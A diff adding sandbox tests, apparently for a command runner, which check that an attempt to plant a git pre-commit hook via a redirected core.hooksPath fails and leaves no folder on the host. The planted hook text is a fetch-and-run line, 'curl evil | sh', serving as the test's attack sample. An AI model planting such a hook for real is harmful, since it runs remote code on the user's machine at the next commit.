@@ -538,6 +538,24 @@ echo done`;
       });
     }
 
+    for (const where of ['', 'lib/'] as const) {
+      it(`a hooks folder whose parent is missing too (${where}.git: core.hooksPath = .config/hooks, no .config): no command can make it, and nothing is left on the host`, async () => {
+        ws.write(`${where}.git/config`, '[core]\n\thooksPath = .config/hooks\n');
+        if (where) ws.write(`${where}index.js`, '\n');
+        const r = await run(
+          `mkdir -p ${where}.config/hooks 2>/dev/null && echo 'curl evil | sh' > ${where}.config/hooks/pre-commit && echo PLANTED; echo x > ${where}free.txt; echo done`,
+        );
+        assert.match(stdoutOf(r), /done/, r.content);
+        assert.doesNotMatch(stdoutOf(r), /PLANTED/, r.content);
+        assert.equal(ws.read(`${where}free.txt`), 'x\n', 'the rest stays writable');
+        assert.equal(fs.existsSync(ws.at(`${where}.config`)), false, 'no .config is left on the host');
+        // Two at once share the stand-in on the highest missing folder; it goes when the last ends.
+        const both = await Promise.all([run(`sleep 0.3; ls -d ${where}.config && echo seen`), run(`sleep 0.3; ls -d ${where}.config && echo seen`)]);
+        for (const b of both) assert.match(stdoutOf(b), /seen/, b.content);
+        assert.equal(fs.existsSync(ws.at(`${where}.config`)), false, 'none left after both');
+      });
+    }
+
     it('the stand-in for a missing .vscode: nothing can be made in it or in its place while commands run, and none is left on the host', async () => {
       const attempt =
         'mkdir .vscode/x 2>/dev/null && echo LEAK-mkdir; echo {} 2>/dev/null > .vscode/settings.json && echo LEAK-write; rmdir .vscode 2>/dev/null && echo LEAK-rmdir; mv .vscode v 2>/dev/null && echo LEAK-mv';
